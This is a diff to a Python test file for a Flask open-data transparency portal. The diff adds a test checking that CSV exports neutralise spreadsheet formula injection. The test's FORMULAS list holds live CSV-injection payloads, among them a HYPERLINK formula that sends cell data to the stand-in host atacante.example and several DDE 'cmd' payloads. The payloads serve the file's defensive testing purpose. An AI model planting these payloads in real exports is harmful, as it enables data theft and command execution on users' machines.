@@ -56,9 +56,9 @@ def people(app: Flask) -> dict[str, int]:
     }
 
 
-def publish(people: dict[str, int]) -> Case:
+def publish(people: dict[str, int], rows: list[dict[str, str]] | None = None, note: str = "") -> Case:
     case = budget()
-    result = save_record(case.id, people["area"], rows=[ROW], note="", expected_version=case.version)
+    result = save_record(case.id, people["area"], rows=rows or [ROW], note=note, expected_version=case.version)
     result = submit_record(case.id, people["area"], expected_version=result.version)
     result = decide(
         case.id,
@@ -103,7 +103,7 @@ def test_public_page_and_open_data(client: FlaskClient, people: dict[str, int]) 
     assert rows[0] == [*OPEN_DATA_COLUMNS, "capitulo", "aprobado", "ejercido", "hipervinculo"]
     assert len(rows) == 2
     line = dict(zip(rows[0], rows[1], strict=True))
-    assert line["folio"] == case.folio
+    assert line["folio_registro"] == case.folio
     assert line["ejercicio"] == "2026"
     assert line["trimestre"] == "1"
     assert line["capitulo"] == "1000 Servicios personales"
@@ -116,13 +116,60 @@ def test_public_page_and_open_data(client: FlaskClient, people: dict[str, int]) 
     document = json.loads(json_response.get_data().decode("utf-8"))
     assert document["formato"]["codigo"] == "presupuesto"
     assert [c["nombre"] for c in document["campos"]] == ["capitulo", "aprobado", "ejercido", "hipervinculo"]
-    assert document["registros"][0]["renglones"] == [ROW]
+    assert document["registros"][0]["renglones"] == [
+        {"capitulo": "1000 Servicios personales", "aprobado": 1500000, "ejercido": 350000, "hipervinculo": ""}
+    ]
     raw = csv_response.get_data(as_text=True) + json_response.get_data(as_text=True)
     for name in ("Fernanda", "Ulises", "Sistema de publicaciones", "@"):
         assert name not in raw
     # a format with nothing published still gives a valid, empty document
     empty_json = json.loads(client.get("/transparencia/obligaciones/contratos.json").get_data(as_text=True))
     assert empty_json["registros"] == []
+
+
+FORMULAS = [
+    '=HYPERLINK("https://atacante.example/?d="&A1;"Ver detalle")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUMA(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_open_data_neutralises_formulas_and_keeps_numbers(client: FlaskClient, people: dict[str, int]) -> None:
+    rows = [
+        {"capitulo": formula, "aprobado": "-1500.50", "ejercido": "350000", "hipervinculo": ""} for formula in FORMULAS
+    ]
+    publish(people, rows=rows, note="=1+1 nota")
+    plain = client.get("/transparencia/obligaciones/presupuesto.csv")
+    assert plain.status_code == 200
+    body = plain.get_data()
+    assert not body.startswith(b"\xef\xbb\xbf")
+    table = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
+    header = table[0]
+    assert len(header) == len(set(header))
+    lines = [dict(zip(header, row, strict=True)) for row in table[1:]]
+    assert [line["capitulo"] for line in lines] == ["'" + formula.strip() for formula in FORMULAS]  # saved trimmed
+    assert {line["nota"] for line in lines} == {"'=1+1 nota"}
+    assert {line["aprobado"] for line in lines} == {"-1500.50"}  # a number, not neutralised text
+    for row in table[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
+
+    with_bom = client.get("/transparencia/obligaciones/presupuesto.csv?bom=1")
+    assert with_bom.get_data().startswith(b"\xef\xbb\xbf")
+    assert with_bom.get_data()[3:] == body
+    assert client.get("/transparencia/obligaciones/presupuesto.csv?bom=0").get_data() == body
+    assert client.get("/transparencia/obligaciones/presupuesto.csv?bom=quizas").status_code == 400
+
+    document = client.get("/transparencia/obligaciones/presupuesto.json").get_json()
+    first = document["registros"][0]["renglones"][0]
+    assert first["aprobado"] == -1500.5
+    assert first["ejercido"] == 350000
+    assert isinstance(first["ejercido"], int)
+    assert first["capitulo"] == FORMULAS[0]  # JSON is data, not a spreadsheet: kept as typed
 
 
 def test_public_bad_input(client: FlaskClient, people: dict[str, int]) -> None:
